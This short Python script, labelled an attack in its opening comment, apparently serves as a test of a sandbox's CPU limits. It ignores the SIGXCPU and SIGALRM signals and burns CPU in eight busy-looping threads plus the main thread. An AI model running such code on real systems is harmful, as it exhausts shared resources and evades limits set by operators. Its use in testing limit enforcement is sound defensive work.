# attack: burn CPU in eight threads and ignore SIGXCPU (the CPU-time limit's warning)
import signal
import threading

for sig in (signal.SIGXCPU, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)


def spin():
    while True:
        pass


for _ in range(8):
    threading.Thread(target=spin, daemon=True).start()
spin()
